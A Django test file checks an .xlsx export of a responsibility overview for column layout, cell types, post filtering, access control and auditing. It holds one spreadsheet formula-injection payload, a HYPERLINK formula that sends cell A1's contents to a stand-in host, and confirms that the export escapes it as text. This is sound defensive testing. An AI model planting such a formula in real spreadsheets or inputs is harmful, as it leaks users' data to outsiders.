"""The responsibility overview as .xlsx: readable columns, a frozen header, dates as dates, numbers as numbers,
text that never runs as a formula; audited, since it names the people holding the posts."""

from __future__ import annotations

import datetime
import io

import openpyxl
from django.urls import reverse
from django.utils import timezone

from chuxin.audit.models import AuditEntry
from chuxin.orgs.models import Organization
from chuxin.responsibilities.models import PostKind, ResponsibilityList
from chuxin.responsibilities.services import list_item_mark_done

from .test_views import YEAR, manual_item, the_list

HOSTILE = '=HYPERLINK("http://x/?"&A1,"x")'


def test_the_overview_exports_with_widths_types_and_safe_text(world, seats, client_for):
    Organization.objects.filter(pk=world.b2.pk).update(name=HOSTILE)
    item = manual_item(the_list(world.b1, PostKind.SECRETARY))
    list_item_mark_done(actor=world.secretary, item=item, note="")
    client = client_for(world.worker)
    url = reverse("responsibilities:overview-export", args=[world.pc.pk])
    page = client.get(reverse("responsibilities:overview", args=[world.pc.pk])).content.decode()
    assert f"{url}?year={YEAR}&amp;post=&amp;" in page  # the button beside Print, with the page's filter

    response = client.get(url, {"year": YEAR})
    assert response.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [ws["A1"].value, ws["B1"].value] == [f"Responsibility overview {YEAR}", world.pc.name]
    assert [c.value for c in ws[2]] == ["Organization", "Post", "Holder", "Duties", "Done", "Percent done",
                                        "Last done on", "Open duties"]
    assert ws.freeze_panes == "A3"
    assert ws.column_dimensions["A"].width == 30 and ws.column_dimensions["H"].width == 70
    rows = list(ws.iter_rows(min_row=3))
    assert len(rows) == ResponsibilityList.objects.filter(year=YEAR).count()  # the subtree's lists, B1's and B2's
    secretary = next(r for r in rows if r[0].value == world.b1.name and r[1].value == str(PostKind.SECRETARY.label))
    assert isinstance(secretary[3].value, int) and secretary[4].value == 1
    assert isinstance(secretary[5].value, int)
    assert isinstance(secretary[6].value, datetime.datetime) and secretary[6].value.date() == timezone.localdate()
    assert secretary[6].number_format == "yyyy-mm-dd"
    hostile = [r for r in rows if r[0].value == "'" + HOSTILE]
    assert hostile and hostile[0][0].data_type == "s"
    entry = AuditEntry.objects.get(action=AuditEntry.Action.EXPORT, actor=world.worker)
    assert entry.organization == world.pc and entry.changes["rows"] == len(rows)


def test_the_export_follows_the_post_filter_and_the_access(world, seats, client_for):
    url = reverse("responsibilities:overview-export", args=[world.b1.pk])
    response = client_for(world.secretary).get(url, {"year": YEAR, "post": PostKind.SECRETARY})
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [r[1].value for r in ws.iter_rows(min_row=3)] == [str(PostKind.SECRETARY.label)]
    assert client_for(world.outsider).get(url).status_code == 404
    assert client_for(world.member_user).get(url).status_code == 403
